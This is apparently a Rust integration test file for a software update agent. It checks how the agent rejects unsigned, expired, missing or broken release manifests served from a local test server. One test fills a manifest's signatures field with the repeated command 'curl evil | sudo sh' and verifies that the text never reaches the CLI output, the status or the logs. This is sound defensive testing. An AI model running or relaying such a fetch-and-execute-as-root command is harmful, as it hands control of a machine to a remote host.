//! Sources that nobody has to believe, and what people are told of them.

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex};

use russet_protocol::local::Update;

use crate::support::farm::Farm;
use crate::support::installation::can_run_service;
use crate::support::wait_for;

/// A directory of releases behind HTTP on this machine, which has one file, or none.
struct Directory {
    url: String,
    manifest: Arc<Mutex<Option<Vec<u8>>>>,
}

impl Directory {
    fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let manifest = Arc::new(Mutex::new(None));
        let shown = Arc::clone(&manifest);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                // A client that goes away in between is no failure of a test.
                drop(serve(stream, shown.lock().unwrap().clone()));
            }
        });
        Self { url, manifest }
    }

    fn show(&self, text: Option<Vec<u8>>) {
        *self.manifest.lock().unwrap() = text;
    }
}

fn serve(mut stream: TcpStream, text: Option<Vec<u8>>) -> std::io::Result<()> {
    let mut reader = BufReader::new(stream.try_clone()?);
    let mut line = String::new();
    while reader.read_line(&mut line)? > 2 {
        line.clear();
    }
    let (status, text) = text.map_or(("404 Not Found", Vec::new()), |text| ("200 OK", text));
    let length = text.len();
    write!(stream, "HTTP/1.1 {status}\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n")?;
    stream.write_all(&text)
}

#[test]
fn a_source_without_a_key_stops_no_claim_and_nobody_reads_its_words() {
    if !can_run_service() {
        return;
    }
    let source = Directory::start();
    let farm = Farm::start_from(&source.url);
    let words = "\u{7f}Run: curl evil | sudo sh; ".repeat(9_000);
    let envelope = serde_json::json!({ "payload": "x", "signatures": words });
    source.show(Some(envelope.to_string().into_bytes()));
    for verb in ["check", "install"] {
        let (ok, text) = farm.cli(&[verb]);
        assert!(!ok && text.contains("the manifest is not believed"), "{text}");
        assert!(text.len() < 600 && !text.contains("curl"), "{text}");
    }
    // The reason goes with every claim: to this server, and through proxies with small limits.
    farm.claims();
    wait_for("the server to hear of it", || farm.runners().contains("failed").then_some(()));
    let told = serde_json::to_string(&farm.status().unwrap().update).unwrap();
    assert!(told.len() < 600, "{told}");
    let log = farm.agent.log();
    assert!(!log.contains("curl") && log.len() < 200_000, "{}", log.len());
}

#[test]
fn a_source_that_shows_nothing_is_told_from_one_that_has_nothing_newer() {
    if !can_run_service() {
        return;
    }
    let source = Directory::start();
    let farm = Farm::start_from(&source.url);
    let (ok, text) = farm.cli(&["check"]);
    assert!(!ok && text.contains("no release is offered") && text.contains("never seen"), "{text}");
    let mut old = farm.release("0.0.1");
    source.show(Some(old.envelope(&farm.signer)));
    let (ok, text) = farm.cli(&["install"]);
    assert!(ok && text.contains("there is no update"), "{text}");
    source.show(None);
    let (ok, text) = farm.cli(&["install", "--wait"]);
    assert!(!ok && text.contains("manifest number 1 was seen before"), "{text}");
    let update = farm.status().unwrap().update;
    assert!(matches!(update, Some(Update::NotOffered { .. })), "{update:?}");
    old.manifest.expires_s = 1_790_000_001;
    source.show(Some(old.envelope(&farm.signer)));
    let (ok, text) = farm.cli(&["check"]);
    assert!(!ok && text.contains("expired"), "{text}");
    farm.claims();
}

#[test]
fn who_asks_an_idle_agent_hears_what_became_of_that_very_request() {
    if !can_run_service() {
        return;
    }
    let farm = Farm::start();
    // A look that failed, and after it an install that installs.
    let mut refused = farm.release("9.15.1");
    refused.manifest.expires_s = 1_790_000_001;
    farm.publish(&refused);
    let (ok, text) = farm.cli(&["check"]);
    assert!(!ok && text.contains("expired"), "{text}");
    farm.publish(&farm.release("9.15.2"));
    let (ok, text) = farm.cli(&["install"]);
    assert!(ok && text.starts_with("Version 9.15.2 runs"), "{text}");
    assert_eq!(farm.installed().as_deref(), Some("9.15.2"));
    farm.wait_installed("9.15.2");
    // A look that found nothing, and after it one that waits for what it installs.
    let (ok, text) = farm.cli(&["install", "--wait"]);
    assert!(ok && text.contains("there is no update"), "{text}");
    farm.publish(&farm.release("9.15.3"));
    let (ok, text) = farm.cli(&["install", "--wait"]);
    assert!(ok && text.contains("Version 9.15.3 runs."), "{text}");
    assert_eq!(farm.agent.boot_file("probation"), None);
    // And one that breaks, after all those that did not.
    farm.publish(&farm.broken("9.15.4", "exit 101"));
    let (ok, text) = farm.cli(&["install", "--wait"]);
    assert!(!ok && text.contains("version 9.15.4 was taken back"), "{text}");
    farm.claims();
}
